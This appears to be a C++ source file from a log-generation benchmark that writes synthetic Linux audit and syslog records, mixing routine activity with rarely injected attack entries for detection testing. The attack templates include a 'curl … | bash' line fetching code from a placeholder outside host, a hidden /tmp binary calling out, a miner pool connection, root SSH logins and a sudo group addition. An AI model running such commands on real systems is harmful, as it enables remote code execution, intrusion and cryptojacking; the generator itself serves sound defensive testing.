// SPDX-License-Identifier: Apache-2.0
#include "bench/generator/linux_stream.h"

#include <array>

#include "bench/generator/template_text.h"

namespace catena::generator {
namespace {

struct ProgramLine {
  std::uint32_t weight;
  std::string_view program;  // image or syslog program
  std::string_view text;     // arguments separated by '|', or the message
};

constexpr std::array<ProgramLine, 10> kStarts = {{
    {30, "/usr/bin/cat", "cat|/proc/loadavg"},
    {30, "/usr/bin/grep", "grep|-q|{word}|/etc/nordwind/{word}.conf"},
    {20, "/usr/bin/systemctl", "systemctl|is-active|nginx.service"},
    {20, "/usr/sbin/logrotate", "logrotate|/etc/logrotate.conf"},
    {20, "/usr/bin/tail", "tail|-n|50|/var/log/nginx/error.log"},
    {20, "/usr/bin/python3.11", "/usr/bin/python3|/opt/nordwind/agent/collect.py|--site|{n}"},
    {15, "/usr/bin/ls", "ls|-l|--color=auto|/srv/{word}"},
    {15, "/usr/bin/rsync", "rsync|-a|--delete|/srv/{word}/|backup@{ip}:/srv/{word}/"},
    {10, "/usr/bin/apt-get", "apt-get|-qq|update"},
    {10, "/usr/bin/git", "git|-C|/srv/{word}|status|--porcelain"},
}};

constexpr std::array<ProgramLine, 7> kSyslog = {{
    {30, "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"},
    {25, "systemd", "Started nordwind-{word}.service - Nordwind {word} worker {n}."},
    {20, "sshd",
     "Accepted publickey for deploy from {ip} port {n} ssh2: ED25519 SHA256:{hex}{hex}{hex}"},
    {20, "sshd", "Disconnected from user deploy {ip} port {n}"},
    {10, "sudo",
     "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart "
     "nordwind-{word}"},
    {15, "systemd-logind", "New session {n} of user deploy."},
    {15, "kernel", "[{n}.{n}] eth0: Link is Up - 1000Mbps/Full - flow control rx/tx"},
}};

constexpr std::array<ProgramLine, 3> kAttackStarts = {{
    {1, "/tmp/.{word}/{word}", "/tmp/.{word}/{word}|-o|{out}:443"},
    {1, "/usr/bin/bash", "bash|-c|curl -s http://{out}/{word} | bash"},
    {1, "/opt/{word}/{word}", "/opt/{word}/{word}|-o|stratum+tcp://{out}:3333"},
}};

constexpr std::array<ProgramLine, 3> kAttackSyslog = {{
    {1, "sshd", "Accepted password for root from {out} port {n} ssh2"},
    {1, "sshd",
     "error: maximum authentication attempts exceeded for invalid user admin from {out} port {n} "
     "ssh2 [preauth]"},
    {1, "usermod", "add '{word}' to group 'sudo'"},
}};

// Written as sub-seconds of the audit number: "1767600000.123".
std::string audit_time(Timestamp time) {
  const std::string fraction = std::to_string(1000 + time / kNanosPerMilli % 1000).substr(1);
  return std::to_string(time / kNanosPerSecond) + "." + fraction;
}

}  // namespace

std::string LinuxStream::host() {
  return "app-" + std::to_string(101 + random_.below(kHosts)).substr(1);
}

std::uint32_t LinuxStream::add_everyday(Timestamp time, bool program_start, std::string& out) {
  if (program_start) {
    const ProgramLine& line = random_.pick_weighted(kStarts);
    return this->program_start(time, line.program, line.text, out);
  }
  const ProgramLine& line = random_.pick_weighted(kSyslog);
  syslog(time, line.program, line.text, out);
  return 1;
}

std::uint32_t LinuxStream::add_attack(Timestamp time, bool program_start, std::string& out) {
  if (program_start) {
    const ProgramLine& line = random_.pick(kAttackStarts);
    return this->program_start(time, line.program, line.text, out);
  }
  const ProgramLine& line = random_.pick(kAttackSyslog);
  syslog(time, line.program, line.text, out);
  return 1;
}

std::uint32_t LinuxStream::program_start(Timestamp time, std::string_view image,
                                         std::string_view arguments, std::string& out) {
  const std::string node = host();
  const std::string head = "node=" + node + " type=";
  const std::string stamp =
      " msg=audit(" + audit_time(time) + ":" + std::to_string(audit_serial_++) + "): ";
  const std::string exe = fill_template(image, {"deploy", node}, random_);
  const std::string comm = exe.substr(exe.rfind('/') + 1, 15);
  const std::string pid = std::to_string(random_.between(1000, 60'000));
  out += joined({head, "SYSCALL", stamp,
                 "arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1a2b3c0 a1=55d0c1a2b4d0 "
                 "a2=55d0c1a2b5e0 a3=8 items=2 ppid=",
                 std::to_string(random_.between(1000, 60'000)), " pid=", pid,
                 " auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 "
                 "fsgid=1001 tty=pts0 ses=",
                 std::to_string(random_.between(1, 90)), " comm=\"", comm, "\" exe=\"", exe,
                 "\" key=\"exec\"\n"});
  std::string list;
  std::size_t count = 0;
  const std::string filled = fill_template(arguments, {"deploy", node}, random_);
  // "curl … | bash" is one argument: only bars without blanks beside them separate.
  for (std::size_t begin = 0; begin <= filled.size();) {
    std::size_t end = filled.find('|', begin);
    while (end != std::string::npos && end > 0 && filled[end - 1] == ' ') {
      end = filled.find('|', end + 1);
    }
    if (end == std::string::npos) end = filled.size();
    list += " a" + std::to_string(count++) + "=\"" + filled.substr(begin, end - begin) + "\"";
    begin = end + 1;
  }
  out += head + "EXECVE" + stamp + "argc=" + std::to_string(count) + list + "\n";
  out += head + "CWD" + stamp + "cwd=\"/srv\"\n";
  out += head + "PATH" + stamp + "item=0 name=\"" + exe +
         "\" inode=" + std::to_string(random_.between(10'000, 99'999)) +
         " dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
         "cap_fe=0 cap_fver=0 cap_frootid=0\n";
  return kLinesPerStart;
}

void LinuxStream::syslog(Timestamp time, std::string_view program, std::string_view message,
                         std::string& out) {
  const std::string node = host();
  out += joined({format_iso8601(time), " ", node, " ", program, "[",
                 std::to_string(random_.between(300, 60'000)),
                 "]: ", fill_template(message, {"deploy", node}, random_), "\n"});
}

}  // namespace catena::generator
